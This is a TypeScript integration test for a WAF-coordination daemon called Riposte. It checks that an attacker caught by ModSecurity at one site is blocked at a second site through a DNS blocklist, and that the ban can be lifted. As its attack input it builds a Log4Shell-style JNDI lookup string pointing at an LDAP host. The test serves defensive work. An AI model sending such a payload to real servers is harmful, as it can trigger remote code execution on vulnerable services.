/**
 * The closed loop on real servers: an attacker is detected at site A, and site B's ModSecurity denies it by @rbl before
 * any rule of its own matched; an innocent passes at both; lifting the ban opens B again. Runs in a network namespace,
 * prints its time line, ends with 0 when all of it held.
 */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { bin, DaemonProcess } from '../chaos/daemon-process.ts'
import { freePort } from '../real/loopback.ts'
import { startNamed } from '../real/named.ts'
import { enterNamespace, useResolver } from '../real/network-namespace.ts'
import { startNginx, type WafServer } from '../real/nginx.ts'

const ATTACKER = '203.0.113.66'
const INNOCENT = '198.51.100.20'
const ZONE = 'bl.riposte.test'
/** Trailing dot: without it the resolver's search domains multiply the queries. */
const LISTED_RULE = `SecRule REMOTE_ADDR "@rbl ${ZONE}." "id:9100,phase:1,deny,status:403,log,msg:'Listed by Riposte'"`
const BUDGET = 2000

const get = (site: WafServer, from: string, path: string): Promise<number> =>
  new Promise((resolve, reject) => {
    const call = request(
      {
        host: site.host,
        port: site.port,
        path,
        localAddress: from,
        agent: false,
        headers: { host: 'shop.example.net', accept: '*/*', 'user-agent': 'Mozilla/5.0' },
      },
      (answer) => {
        answer.resume()
        answer.on('end', () => resolve(answer.statusCode!))
      },
    )
    call.on('error', reject)
    call.end()
  })

const until = async (what: string, check: () => Promise<boolean>, limit = 20_000): Promise<number> => {
  for (const end = Date.now() + limit; Date.now() < end; await sleep(10)) if (await check()) return Date.now()
  return assert.fail(`not within ${limit} ms: ${what}`)
}

const rulesOf = (site: WafServer, ip: string): readonly string[][] =>
  readFileSync(site.auditLog, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map(
      (line) =>
        (JSON.parse(line) as { transaction: { client_ip: string; messages: { details: { ruleId: string } }[] } })
          .transaction,
    )
    .filter((transaction) => transaction.client_ip === ip)
    .map((transaction) => transaction.messages.map((message) => message.details.ruleId))

const main = async (): Promise<void> => {
  const dir = mkdtempSync(join(tmpdir(), 'riposte-loop-'))
  const undo: (() => Promise<unknown> | unknown)[] = [() => rmSync(dir, { recursive: true, force: true })]
  try {
    const dns = await freePort()
    writeFileSync(join(dir, 'resolv.conf'), 'nameserver 127.0.0.1\noptions timeout:1 attempts:2\n')
    useResolver(join(dir, 'resolv.conf'))

    const waf = { rules: LISTED_RULE, addresses: [] as string[] }
    const a = await startNginx({ ...waf, addresses: ['192.0.2.81'], port: 8081 })
    undo.push(() => a.stop())
    const b = await startNginx({ ...waf, addresses: ['192.0.2.82'], port: 8082 })
    undo.push(() => b.stop())

    const daemon = new DaemonProcess(
      dir,
      'riposte',
      (database) => `
state: ${database}
sensors:
  - { id: site-a, sources: [{ file: ${a.auditLog} }] }
  - { id: site-b, sources: [{ file: ${b.auditLog} }] }
decide: { budget: { shareOfClients: 1 } }
enforce:
  - rbl: { listen: ['127.0.0.1:${dns}'], zones: { ban: ${ZONE} }, ttl: 1s, negativeTtl: 1s }
`,
    )
    await daemon.start()
    undo.push(() => daemon.end('SIGKILL'))
    const named = await startNamed(
      53,
      ZONE,
      () => `zone "${ZONE}" { type forward; forward only; forwarders { 127.0.0.1 port ${dns}; }; };`,
    )
    undo.push(() => named.stop())

    assert.equal(await get(a, INNOCENT, '/'), 200)
    assert.equal(await get(b, INNOCENT, '/'), 200)
    assert.equal(await get(b, ATTACKER, '/'), 200, 'B does not know the attacker yet')

    const start = Date.now()
    const line = (what: string, at = Date.now()) => console.log(`${String(at - start).padStart(6)} ms  ${what}`)
    const jndi = encodeURIComponent('$'.concat('{jndi:ldap://203.0.113.66/x}'))
    assert.equal(await get(a, ATTACKER, `/?q=${jndi}`), 403)
    line('site A denied the attack by its own rules')
    const denied = await until('site B denies the attacker', async () => (await get(b, ATTACKER, '/')) === 403)
    line(`site B denies the attacker by @rbl (budget ${BUDGET} ms)`, denied)
    await sleep(300)
    const last = rulesOf(b, ATTACKER).at(-1)!
    assert.deepEqual(last.slice(0, 1), ['9100'], `no rule of B's own: ${last}`)
    assert.ok(!last.some((id) => /^9[1234]\d{4}$/.test(id) && !id.startsWith('949')), `no rule of B's own: ${last}`)

    const state = ['--state', daemon.database]
    const riposte = (...args: string[]) =>
      spawnSync(process.execPath, [bin, ...args, ...state], {
        encoding: 'utf8',
        env: { ...process.env, NO_COLOR: '1' },
      })
    const page = JSON.parse(riposte('decisions', 'show', ATTACKER, '--json').stdout) as {
      decision: { startsAt: string }
      proofs: { point: string; requestedAt: string; appliedAt: string; verifiedAt: string }[]
    }
    const proof = page.proofs.find((p) => p.point === 'rbl')!
    line('decision durable', Date.parse(proof.requestedAt))
    line('rbl applied', Date.parse(proof.appliedAt))
    line('rbl verified by DNS', Date.parse(proof.verifiedAt))

    assert.equal(await get(a, INNOCENT, '/'), 200)
    assert.equal(await get(b, INNOCENT, "/?name=O'Brien"), 200)
    line('the innocent passes at both')
    assert.equal(riposte('decisions', 'remove', ATTACKER).status, 0)
    line('ban lifted')
    line('site B is open again', await until('B opens again', async () => (await get(b, ATTACKER, '/')) === 200))
  } finally {
    for (const end of undo.reverse()) await end()
  }
}

const code = enterNamespace()
if (code !== undefined) process.exit(code)
await main()
process.exit(0)
